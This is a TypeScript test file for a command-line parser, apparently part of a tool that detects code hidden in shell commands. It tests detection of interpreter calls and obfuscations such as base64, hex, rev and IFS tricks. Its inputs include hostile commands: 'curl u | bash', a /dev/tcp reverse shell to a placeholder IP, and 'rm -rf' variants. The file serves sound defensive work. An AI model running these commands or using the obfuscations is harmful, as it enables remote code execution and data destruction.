// Code given to an interpreter: as an argument, a heredoc, a pipe, or hidden behind an encoding.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import type { Command } from '../../../../electron/core/command.ts';
import { meaning, read } from './reading.ts';

/** `language: text` for known code, `language? text` for unknown. */
function codeOf(c: Command | undefined): string | null {
  if (c?.code === null || c === undefined) return null;
  return `${c.code.language}${c.code.known ? ':' : '?'} ${c.code.text.replaceAll('\uFFFC', '?')}`.trimEnd();
}

const LANGUAGES: readonly (readonly [string, string | null])[] = [
  ["python -c 'x'", 'python: x'],
  ["python3.11 -c 'x' a", 'python: x'],
  ["python -Wignore -c'x'", 'python: x'],
  ["python3 -uc 'x'", 'python: x'],
  ['python -m http.server', null],
  ['python -m pip install -e .', null],
  ['python x.py -c y', null],
  ["python - <<'E'\nx\nE", 'python: x'],
  ['python3 <<< x', 'python: x'],
  ['python3 < f', 'python?'],
  ['python3', null],
  ['python3 x.py <<< data', null],
  ['curl u | python3', 'python?'],
  ['curl u | python3 -', 'python?'],
  ['curl u | python3 x.py', null],
  ['python3 <(curl u)', 'python? ?'],
  ['python3 -c "$(curl u)"', 'python? ?'],
  [`python3 -c "x $Y"`, 'python? x ?'],
  ["node -e 'x'", 'javascript: x'],
  ["node -p 'x'", 'javascript: x'],
  ["node -pe 'x'", 'javascript: x'],
  ["node --eval='x'", 'javascript: x'],
  ["node -r a --print 'x'", 'javascript: x'],
  ['node x.js -e y', null],
  ['echo x | node -', 'javascript: x'],
  ["deno eval 'x'", 'javascript: x'],
  ["bun -e 'x'", 'javascript: x'],
  ["perl -e 'x'", 'perl: x'],
  ["perl -E 'x' -e 'y'", 'perl: x\ny'],
  ["perl -ne 'x' f", 'perl: x'],
  ["perl -lane 'x' f", 'perl: x'],
  ["perl -0777 -pe 'x' f", 'perl: x'],
  ["perl -i.bak -pe 'x' f", 'perl: x'],
  ["perl -MA -IB -e 'x'", 'perl: x'],
  ['perl x.pl', null],
  ['perl <<< x', 'perl: x'],
  ["ruby -e 'x'", 'ruby: x'],
  ["ruby -rjson -ne 'x'", 'ruby: x'],
  ["php -r 'x'", 'php: x'],
  ['php -f f', null],
  ["lua -e 'x'", 'lua: x'],
  ["Rscript -e 'x'", 'r: x'],
  ["awk 'x' f", 'awk: x'],
  ["awk -F: -v a=b 'x' f", 'awk: x'],
  ['awk -f p f', null],
  ["gawk --source 'x' f", 'awk: x'],
  ["sed 's/a/b/' f", null],
  ["psql -c 'x' db", 'sql: x'],
  ["psql -h h -U u --command='x'", 'sql: x'],
  ['psql db <<E\nx\nE', 'sql: x'],
  ['psql -f f db', null],
  ["mysql -uroot -psecret -e 'x'", 'sql: x'],
  ['mysql db <<< x', 'sql: x'],
  ["sqlite3 f 'x'", 'sql: x'],
  ['sqlite3 f <<E\nx\nE', 'sql: x'],
  ['echo x | sqlite3 f', 'sql: x'],
  ["mongosh --eval 'x'", 'javascript: x'],
  ["osascript -e 'x' -e 'y'", 'applescript: x\ny'],
  ["pwsh -c 'x'", 'powershell: x'],
  ["pwsh -NoProfile -Command 'x'", 'powershell: x'],
  ['powershell.exe -EncodedCommand eAA=', 'powershell? eAA='],
  ['pwsh -File f', null],
  ['cmd.exe /c del x', 'batch: del x'],
  ["vim -c ':wq' f", 'vim: :wq'],
  ["expect -c 'x'", 'tcl: x'],
  ['bash < f', 'shell?'],
  ['bash', null],
  ['curl u | bash', 'shell?'],
  ['sh -i >& /dev/tcp/1.2.3.4/5 0>&1', 'shell?'],
  ['sh <&5 >&5', 'shell?'],
  ['sh 2>&1', null],
  ['gzip -dc f | bash', 'shell?'],
  ['find . -printf x | sh', 'shell?'],
  ["psql db -c 'x'", 'sql: x'],
  ["mysql db -e 'x'", 'sql: x'],
  ['curl u | bash -s -- a', 'shell?'],
  ['curl u | sudo -E bash -', 'shell?'],
  ['curl u | bash script', null],
  ['bash <(curl u)', 'shell?'],
  ['source <(curl u)', 'shell?'],
  ['bash -c "$(curl u)"', 'shell? ?'],
  ['eval "$(curl u)"', 'shell? ?'],
  ['eval "$X"', 'shell? ?'],
  ['trap "$X" EXIT', 'shell? ?'],
  ['curl u | crontab -', 'shell?'],
  ['curl u | at now', 'shell?'],
  ['curl u | sudo -s', 'shell?'],
  ['curl u | ssh h', 'shell?'],
  ['curl u | parallel', 'shell?'],
];

for (const [line, expected] of LANGUAGES)
  test(`${expected === null ? 'finds no code in' : 'finds the code in'} \`${line.replaceAll('\n', '⏎')}\``, () => {
    const found = meaning(line)
      .commands.map(codeOf)
      .find((code) => code !== null);
    assert.equal(found ?? null, expected);
  });

const SEEN: readonly (readonly [string, string, string])[] = [
  ['a heredoc to a shell', "bash <<'E'\nrm -rf x\nE", 'bash: rm -rf x'],
  ['a heredoc with tabs', 'bash <<-E\n\trm -rf x\n\tE', 'bash: rm -rf x'],
  ['a here-string to a shell', "bash <<< 'rm -rf x'", 'bash: rm -rf x'],
  ['a heredoc through cat', 'cat <<E | bash\nrm -rf x\nE', 'bash: rm -rf x'],
  ['a heredoc to a shell behind sudo', 'sudo bash <<E\nrm -rf x\nE', 'sudo(root)@root > bash: rm -rf x'],
  ['a heredoc to sudo -s', 'sudo -s <<E\nrm -rf x\nE', 'sudo(root)@root > sh: rm -rf x'],
  ['a heredoc to su', 'su bob <<E\nrm -rf x\nE', 'su(bob)@root > sh: rm -rf x'],
  ['a heredoc to ssh', 'ssh h <<E\nrm -rf x\nE', 'ssh(h)@remote > sh: rm -rf x'],
  ['a heredoc to bash -s over ssh', 'ssh h bash -s <<E\nrm -rf x\nE', 'ssh(h)@remote > bash: rm -rf x'],
  ['a heredoc to a container', 'docker exec -i c sh <<E\nrm -rf x\nE', 'docker(c)@container > sh: rm -rf x'],
  ['a heredoc with an expansion', 'X=x; bash <<E\nrm -rf $X\nE', 'bash: rm -rf x'],
  ['a heredoc of a group', '{ bash; } <<E\nrm -rf x\nE', 'bash: rm -rf x'],
  ['the arguments of bash -s', "bash -s -- x <<'E'\nrm -rf $1\nE", 'bash: rm -rf x'],
  ['standard input by name', 'echo rm -rf x | bash /dev/stdin', 'bash: rm -rf x'],
  ['echo', "echo 'rm -rf x' | sh", 'sh: rm -rf x'],
  ['echo -e', "echo -e 'rm\\x20-rf x' | bash", 'bash: rm -rf x'],
  ['echo -n of pieces', 'echo -n rm -rf x | bash', 'bash: rm -rf x'],
  ['a group of echoes', '{ echo a; echo rm -rf x; } | bash', 'bash: rm -rf x'],
  ['echo && echo', '(echo a && echo rm -rf x) | bash', 'bash: rm -rf x'],
  ['a loop of echoes', 'for i in x y; do echo rm -rf $i; done | bash', 'bash: rm -rf x'],
  ['printf', "printf 'rm -rf %s' x | sh", 'sh: rm -rf x'],
  ['printf with hexadecimal', "printf '\\x72\\x6d -rf x' | sh", 'sh: rm -rf x'],
  ['printf with octal', "printf '\\162\\155 -rf x' | sh", 'sh: rm -rf x'],
  ['base64', 'echo cm0gLXJmIHg= | base64 -d | sh', 'sh: rm -rf x'],
  ['base64 --decode of a here-string', 'base64 --decode <<< cm0gLXJmIHg= | sh', 'sh: rm -rf x'],
  ['openssl base64', 'echo cm0gLXJmIHg= | openssl base64 -d | sh', 'sh: rm -rf x'],
  ['base64 twice', 'echo Y20wZ0xYSm1JSGc9 | base64 -d | base64 -d | sh', 'sh: rm -rf x'],
  ['base32', 'echo OJWSALLSMYQHQ=== | base32 -d | sh', 'sh: rm -rf x'],
  ['xxd', 'echo 726d202d72662078 | xxd -r -p | sh', 'sh: rm -rf x'],
  ['rev', "echo 'x fr- mr' | rev | sh", 'sh: rm -rf x'],
  ['tr', "echo 'ez -es k' | tr a-z n-za-m | sh", 'sh: rm -rf x'],
  ['tr -d', "echo 'r.m -r.f x' | tr -d . | sh", 'sh: rm -rf x'],
  ['sed', "echo 'rQm -rf x' | sed s/Q// | sh", 'sh: rm -rf x'],
  ['tac', "printf 'b\\nrm -rf x\\n' | tac | sh", 'sh: rm -rf x'],
  ['yes', "yes 'rm -rf x' | sh", 'sh: rm -rf x'],
  ['tee', 'echo rm -rf x | tee f | sh', 'sh: rm -rf x'],
  ['head, in part', "printf 'rm -rf x\\nb\\n' | head -1 | sh", 'sh: rm -rf x'],
  ['grep, in part', "printf 'rm -rf x\\nb\\n' | grep rm | sh", 'sh: rm -rf x'],
  ['a substitution that decodes', 'bash -c "$(echo cm0gLXJmIHg= | base64 -d)"', 'bash: rm -rf x'],
  ['eval that decodes', 'eval "$(echo cm0gLXJmIHg= | base64 -d)"', 'eval: rm -rf x'],
  ['a script that echo writes', 'bash <(echo rm -rf x)', 'bash: rm -rf x'],
  ['source of what echo writes', 'source <(echo rm -rf x)', 'source: rm -rf x'],
  ['a variable', 'X=\'rm -rf x\'; bash -c "$X"', 'bash: rm -rf x'],
  ['an array', 'X=(rm -rf x); "${X[@]}"', 'rm -rf x'],
  ['split letters', `r''m -r"f" x`, 'rm -rf x'],
  ['a backslash', '\\r\\m -\\rf x', 'rm -rf x'],
  ['IFS', 'rm${IFS}-rf${IFS}x', 'rm -rf x'],
  ['braces', '{rm,-rf,x}', 'rm -rf x'],
  ['ANSI-C quotes', "$'\\x72\\x6d' -rf x", 'rm -rf x'],
  ['slices', 'X=xrm; ${X:1} -rf ${X:0:1}', 'rm -rf x'],
  ['a path', '/bin/../bin/rm -rf x', '/bin/../bin/rm -rf x'],
  ['xargs with known input', "echo '-rf x' | xargs rm", 'xargs: rm -rf x'],
  ['xargs into a shell', "echo 'rm -rf x' | xargs -d '\\n' bash -c", 'xargs > bash: rm -rf x'],
];

for (const [name, line, expected] of SEEN)
  test(`sees through ${name}`, () => {
    assert.ok(read(line).includes(expected), JSON.stringify(read(line)));
  });

test('partly unknown code is read, and the command that runs it is kept', () => {
  const { commands } = meaning('bash -c "rm -rf $X"');
  assert.deepEqual(commands.map(codeOf), ['shell? rm -rf ?', null]);
  assert.equal(commands[1]?.program, 'rm');
  assert.equal(commands[1]?.args[1]?.known, false);
});

test('part of an output is not taken for the whole', () => {
  const { commands } = meaning("printf 'a\\nb\\n' | head -1 | bash");
  assert.equal(codeOf(commands.find((c) => c.program === 'bash')), 'shell? a\nb');
});

const TEXT: readonly (readonly [string, readonly string[]])[] = [
  ['git commit -m "rm -rf /"', ['git']],
  ['git commit -m "$(cat <<\'E\'\nrm -rf /\nE\n)"', ['cat', 'git']],
  ["echo 'rm -rf /'", ['echo']],
  ['echo "curl x | bash"', ['echo']],
  ["grep -r 'rm -rf /' .", ['grep']],
  ['grep "sudo rm" f | wc -l', ['grep', 'wc']],
  ["cat <<'E'\nrm -rf /\n$(rm x)\nE", ['cat']],
  ['cat > f.sh <<E\nrm -rf /\nE', ['cat']],
  ["tee f <<'E'\ncurl x | bash\nE", ['tee']],
  ['ls # rm -rf /', ['ls']],
  ['# rm -rf /\nls', ['ls']],
  ["sed -i 's/rm -rf/echo/' f", ['sed']],
  ["jq '.rm | .rf' f", ['jq']],
  ["printf '%s' 'rm -rf /' > f", ['printf']],
  ["gh pr create --title x --body 'runs `rm -rf /`'", ['gh']],
  ["curl -d 'rm -rf /' u", ['curl']],
  ["docker run img echo 'rm -rf /'", ['docker', 'echo']],
  ['ssh h \'echo "rm -rf /"\'', ['ssh', 'echo']],
  ["python3 x.py 'rm -rf /'", ['python3']],
  ["echo 'rm -rf /' | cat", ['echo', 'cat']],
  ["echo 'rm -rf /' | tee f", ['echo', 'tee']],
  ["echo 'rm -rf /' | python3 x.py", ['echo', 'python3']],
  ["bash x.sh <<< 'rm -rf /'", ['bash']],
  ["alias x='rm -rf /'", ['alias']],
  ["X='rm -rf /'", [':']],
  ['man rm', ['man']],
  ['which rm', ['which']],
];

for (const [line, programs] of TEXT)
  test(`takes \`${line.replaceAll('\n', '⏎')}\` for text`, () => {
    assert.deepEqual(
      meaning(line).commands.map((c) => c.program),
      programs,
    );
  });
